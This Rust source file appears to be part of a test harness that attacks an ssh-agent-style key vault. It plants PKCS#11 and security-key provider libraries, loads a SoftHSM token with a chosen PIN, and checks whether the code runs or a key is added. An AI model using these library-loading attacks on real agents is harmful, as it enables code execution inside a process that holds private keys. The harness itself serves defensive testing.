//! Attack e: make the vault load a library.

use std::path::Path;

use super::{Outcome, Target};
use crate::children::{finish, run};
use crate::keys::{Key, Kind, marker_library};
use crate::message::{self, Message, sign};

/// A PKCS#11 module that every Debian with it installed lets ssh-agent load.
const SOFTHSM: &str = "/usr/lib/softhsm/libsofthsm2.so";

/// A library planted where the agent's allow list reaches: its constructor runs in the vault.
pub fn load_pkcs11_module(target: &mut Target) -> Outcome {
    let mark = target.path("marked");
    let library = marker_library(&target.world, &target.place, &mark);
    finish(target.ssh_add().arg("-s").arg(library));
    loaded(&mark)
}

/// A module of the vault's own, with a PIN of the attacker's choice: a token's key joins the agent's.
pub fn load_pkcs11_module_of_the_vault(target: &mut Target) -> Outcome {
    make_token(target);
    let before = target.agent.keys().len();
    finish(target.ssh_add().arg("-s").arg(SOFTHSM));
    Outcome::of(
        target.agent.keys().len() > before,
        "a key of its own joined",
    )
}

fn loaded(mark: &Path) -> Outcome {
    if mark.exists() {
        Outcome::Reached("code ran in the vault".to_owned())
    } else {
        Outcome::Missed("refused, did not run".to_owned())
    }
}

fn make_token(target: &Target) {
    let tokens = target.world.directory("tokens");
    let config = target.world.file(
        "softhsm2.conf",
        format!("directories.tokendir = {}\n", tokens.display()),
    );
    let key = target.world.path("token.pem");
    let mut openssl = target.world.command("openssl");
    run(openssl
        .args(["genpkey", "-quiet", "-algorithm", "RSA", "-out"])
        .arg(&key));
    let softhsm = |words: &[&str], file: Option<&Path>| {
        let mut command = target.world.command("softhsm2-util");
        run(command.args(words).args(file).env("SOFTHSM2_CONF", &config));
    };
    softhsm(
        &[
            "--init-token",
            "--free",
            "--label",
            "token",
            "--pin",
            "1234",
            "--so-pin",
            "1234",
        ],
        None,
    );
    softhsm(
        &[
            "--token", "token", "--pin", "1234", "--id", "01", "--label", "tokkey", "--import",
        ],
        Some(&key),
    );
}

/// A security key's provider named in a constraint: loaded when the key is asked to sign.
pub fn load_sk_provider(target: &mut Target) -> Outcome {
    let mark = target.path("marked");
    let library = marker_library(&target.world, &target.place, &mark);
    let key = Key::generate(&target.world, "evil-sk", Kind::SkEd25519);
    let blob = key.blob();
    let public = message::strings(&blob);
    const EXTENSION_CONSTRAINT: u8 = 255;
    let add = Message::of(message::ADD_CONSTRAINED)
        .string(public[0])
        .string(public[1])
        .string(public[2]);
    let add = add.byte(1).string([0; 32]).string("").string("evil-sk");
    let add = add
        .byte(EXTENSION_CONSTRAINT)
        .string("sk-provider@openssh.com");
    let mut connection = target.connect();
    connection.ask(&add.string(library.to_str().expect("a test's path is text")));
    connection.ask(&sign(&blob, &message::sshsig("git", &[0; 64])));
    loaded(&mark)
}
